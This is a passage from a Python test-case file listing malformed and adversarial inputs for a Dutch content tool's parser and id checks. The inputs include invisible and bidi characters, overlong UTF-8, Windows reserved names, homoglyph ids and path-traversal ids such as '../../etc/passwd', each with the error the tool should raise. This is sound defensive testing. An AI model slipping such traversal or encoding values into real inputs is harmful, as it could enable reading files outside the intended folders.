        {"organisaties.yaml": "x: &b {name: X}\norganisations:\n  - <<: *b\n    id: nwb\n"},
        (Error("yaml-merge-key", "organisaties.yaml", 3),),
    ),
    Case(
        "yaml-two-documents",
        "parser",
        {"site.yaml": SITE + "---\ntitle: Tweede\n"},
        (Error("yaml-syntax", "site.yaml", 5),),
    ),
    Case(
        "yaml-many-keys",
        "parser",
        {ITEM_PATH: item("".join(f"k{i}: {i}\n" for i in range(50_001)))},
        (Error("yaml-too-large", ITEM_PATH, 49_998),),
        note="13 values precede k0, so the 50,001st value is k49987 on line 49,998",
    ),
    Case(
        "yaml-huge-integer",
        "parser",
        {ITEM_PATH: item("owner: " + "9" * 5000 + "\n")},
        Safe(),
        note="beyond Python's int-from-text limit: kept as text, a legal owner",
    ),
    Case(
        "body-10-mb",
        "parser",
        {ITEM_PATH: item(body="x" * (10 * MIB) + "\n")},
        (Error("file-too-large", ITEM_PATH, 1),),
    ),
    Case(
        "long-line",
        "parser",
        {ITEM_PATH: item(body="woord " * 150_000 + "\n")},
        Safe(),
        markdown="woord " * 1000,
    ),
    Case(
        "many-brackets",
        "parser",
        {ITEM_PATH: item(body="[" * 20_000 + "\n")},
        Safe(),
        markdown="[" * 2000,
    ),
    Case(
        "nul-byte-body",
        "parser",
        {ITEM_PATH: item(body="De\x00 tekst.\n")},
        (Error("nul-byte", ITEM_PATH, BODY),),
    ),
    Case(
        "nul-byte-title",
        "parser",
        {ITEM_PATH: item(title="title: Woning\x00scan")},
        (Error("nul-byte", ITEM_PATH, 3),),
    ),
    Case(
        "invalid-utf8",
        "parser",
        {ITEM_PATH: item(body="De tékst.\n").encode().replace("é".encode(), b"\xe9")},
        (Error("invalid-utf8", ITEM_PATH, BODY),),
    ),
    Case(
        "overlong-utf8",
        "parser",
        {ITEM_PATH: item(title="title: Woning/scan").encode().replace(b"/", b"\xc0\xaf")},
        (Error("invalid-utf8", ITEM_PATH, 3),),
    ),
    Case(
        "utf16-file",
        "parser",
        {"site.yaml": SITE.encode("utf-16")},
        (Error("invalid-utf8", "site.yaml", 1),),
    ),
    Case(
        "bidi-override-title",
        "parser",
        {ITEM_PATH: item(title="title: Woning\u202escan")},
        (Error("invisible-character", ITEM_PATH, 3, "title"),),
    ),
    Case(
        "zero-width-title",
        "parser",
        {ITEM_PATH: item(title="title: Woning\u200bscan")},
        (Error("invisible-character", ITEM_PATH, 3, "title"),),
    ),
    Case(
        "bidi-mark-summary",
        "parser",
        {ITEM_PATH: item(summary="summary: Een korte\u200f inleiding.")},
        (Error("invisible-character", ITEM_PATH, 5, "summary"),),
        note="right-to-left mark: was accepted",
    ),
    Case(
        "word-joiner-organisation",
        "parser",
        {"organisaties.yaml": ORGS.replace("Netwerk Weerbaar", "Netwerk\u2060Weerbaar")},
        (Error("invisible-character", "organisaties.yaml", 3, "organisations[0].name"),),
    ),
    Case(
        "bidi-isolate-body",
        "parser",
        {ITEM_PATH: item(body="Bel \u2066070-1234567\u2069 nu.\n")},
        (Error("invisible-character", ITEM_PATH, ITEM_LINES["body"], "body"),),
    ),
    Case(
        "noncharacter-body",
        "parser",
        {ITEM_PATH: item(body="Tekst \uffff einde.\n")},
        (Error("invisible-character", ITEM_PATH, ITEM_LINES["body"], "body"),),
        note="U+FFFF passed check and crashed the DOCX writer (XML cannot hold it)",
    ),
    Case(
        "noncharacter-escape-title",
        "parser",
        {ITEM_PATH: item(title='title: "Woning\\uFFFEscan"')},
        (Error("invisible-character", ITEM_PATH, 3, "title"),),
    ),
    Case(
        "escape-sequence-title",
        "parser",
        {ITEM_PATH: item(title='title: "\\e[31mWoningscan"')},
        (Error("invisible-character", ITEM_PATH, 3, "title"),),
    ),
    Case(
        "deep-emphasis",
        "parser",
        {ITEM_PATH: item(body="*" * 600 + "diep" + "*" * 600 + "\n")},
        Safe(shown=("diep",), documents=True),
        note="nested emphasis 300 deep crashed the DOCX and PDF writers (RecursionError)",
        markdown="*" * 600 + "diep" + "*" * 600,
    ),
    Case(
        "deep-blocks",
        "parser",
        {
            ITEM_PATH: item(
                body="> " * 200 + "diep\n\n" + "".join("   " * i + "1. x\n" for i in range(60))
            )
        },
        Safe(shown=("x",), documents=True),
        note="markdown-it drops what lies deeper than 20 blocks (maxNesting): safe, but silent",
        markdown="> " * 200 + "diep\n\n" + "".join("   " * i + "- x\n" for i in range(60)),
    ),
    Case(
        "front-matter-never-closed",
        "parser",
        {ITEM_PATH: "---\nid: woningscan\ntitle: x\n"},
        (Error("no-front-matter", ITEM_PATH, 1),),
    ),
    Case(
        "whitespace-only-file",
        "parser",
        {ITEM_PATH: " \n\t\n"},
        (Error("empty-file", ITEM_PATH, 1),),
    ),
    Case(
        "bom-and-crlf",
        "parser",
        {ITEM_PATH: b"\xef\xbb\xbf" + item().replace("\n", "\r\n").encode()},
        Safe(),
        note="legal: a BOM and Windows line endings, as Word and Notepad save them",
    ),
]

# --------------------------------------------------------------------------- identity


def _extra_item(file_name: str, item_id: str) -> dict[str, str | bytes | None]:
    """A second item ``items/<file_name>.md`` with id ``item_id``, next to the base tree."""
    return {f"items/{file_name}.md": item(id=f"id: '{item_id}'")}


def _orgs(*ids: str) -> dict[str, str | bytes | None]:
    entries = "".join(f"  - id: '{org}'\n    name: Organisatie {n}\n" for n, org in enumerate(ids))
    return {"organisaties.yaml": "organisations:\n  - id: nwb\n    name: Netwerk\n" + entries}


def _id_error(path: str, field: str = "id", line: int = 2) -> Error:
    return Error("invalid-id", path, line, field)


IDENTITY: list[Case] = [
    Case(
        "upper-case-file-name",
        "identity",
        {ITEM_PATH: None, "items/Woningscan.md": item()},
        (Error("id-mismatch", "items/Woningscan.md", 2, "id"),),
        note="on a case-insensitive file system this would be the same file as woningscan.md",
    ),
    Case(
        "upper-case-id",
        "identity",
        {ITEM_PATH: item(id="id: Woningscan")},
        (_id_error(ITEM_PATH), Error("id-mismatch", ITEM_PATH, 2, "id")),
    ),
    Case("reserved-con", "identity", _extra_item("con", "con"), (_id_error("items/con.md"),)),
    Case("reserved-nul", "identity", _extra_item("nul", "nul"), (_id_error("items/nul.md"),)),
    Case("reserved-com1", "identity", _extra_item("com1", "com1"), (_id_error("items/com1.md"),)),
    Case(
        "reserved-lpt9-organisation",
        "identity",
        _orgs("lpt9"),
        (_id_error("organisaties.yaml", "organisations[1].id", 4),),
    ),
    Case(
        "reserved-aux-pakket",
        "identity",
        {"pakketten/aux.md": PAKKET.replace("id: pakket", "id: aux")},
        (_id_error("pakketten/aux.md"),),
    ),
    Case("dot-in-id", "identity", _extra_item("a.b", "a.b"), (_id_error("items/a.b.md"),)),
    Case("double-dot-id", "identity", _extra_item("a..b", "a..b"), (_id_error("items/a..b.md"),)),
    Case(
        "hidden-file",
        "identity",
        _extra_item(".verborgen", "verborgen"),
        Safe(),
        note="files starting with '.' are not read (editor back-ups, .DS_Store)",
    ),
    Case(
        "path-separator-in-id",
        "identity",
        {ITEM_PATH: item(id="id: '../../etc/passwd'")},
        (_id_error(ITEM_PATH), Error("id-mismatch", ITEM_PATH, 2, "id")),
    ),
    Case(
        "backslash-in-id",
        "identity",
        {ITEM_PATH: item(id="id: 'a\\b'")},
        (_id_error(ITEM_PATH), Error("id-mismatch", ITEM_PATH, 2, "id")),
    ),
    Case(
        "space-in-file-name",
        "identity",
        {"items/woning scan.md": item(id="id: woning-scan")},
        (Error("id-mismatch", "items/woning scan.md", 2, "id"),),
    ),
    Case(
        "fullwidth-organisation-id",
        "identity",
        _orgs("\uff4e\uff57\uff42"),
        (_id_error("organisaties.yaml", "organisations[1].id", 4),),
        note="NFKC folds it to 'nwb': refused as a slug before it can collide",
    ),
    Case(
        "ligature-item-id",
        "identity",
        _extra_item("\ufb01ets", "\ufb01ets"),
        (_id_error("items/\ufb01ets.md"),),
    ),
    Case(
        "cyrillic-homoglyph-id",
        "identity",
        _extra_item("w\u043eningscan", "w\u043eningscan"),
        (_id_error("items/w\u043eningscan.md"),),
    ),
    Case(
        "combining-accent-id",
        "identity",
        _extra_item("woningscan\u0301", "woningscan\u0301"),
        (_id_error("items/woningscan\u0301.md"),),
    ),
    Case(
        "en-dash-id",
        "identity",
        _extra_item("woning\u2013scan", "woning\u2013scan"),
        (_id_error("items/woning\u2013scan.md"),),
    ),
    Case(
        "case-colliding-organisations",
        "identity",
        _orgs("NWB"),
        (_id_error("organisaties.yaml", "organisations[1].id", 4),),
    ),
    Case(
        "duplicate-organisation",
        "identity",
        _orgs("nwb"),
        (Error("duplicate-id", "organisaties.yaml", 4, "organisations[1].id"),),
    ),
    Case(
        "id-too-long",
        "identity",
        _extra_item("a" * 81, "a" * 81),
        (_id_error("items/" + "a" * 81 + ".md"),),
    ),
    Case(
        "path-in-view-id",
        "identity",
        {"site.yaml": SITE + VIEW.format(id="'../../etc'", title="Weergave")},
        (_id_error("site.yaml", "views[0].id", 6),),
    ),
    Case(
        "reserved-view-id",
        "identity",
        {"site.yaml": SITE + VIEW.format(id="aux", title="Weergave")},
        (_id_error("site.yaml", "views[0].id", 6),),
    ),
    Case(
        "path-in-withdrawn-id",
        "identity",
        {"withdrawn.yaml": "withdrawn:\n  - id: ../items/woningscan\n    date: 2026-01-01\n"},
        (_id_error("withdrawn.yaml", "withdrawn[0].id", 2),),
    ),
    Case(
        "upper-case-theme-folder",
        "identity",
        {"themes/Huis/tokens.json": "{}\n"},
        (Error("invalid-id", "themes/Huis", 1),),
    ),
    Case(
        "upper-case-extension",
        "identity",
        {"items/extra.MD": item(id="id: extra")},
        Safe(),
        note="not read ('.md' only): a warning, never a second item",
    ),
]

CASES: list[Case] = [*INJECTION, *FILE_ACCESS, *PARSER, *IDENTITY]
BY_ID = {case.id: case for case in CASES}
assert len(BY_ID) == len(CASES), "case ids must be unique"
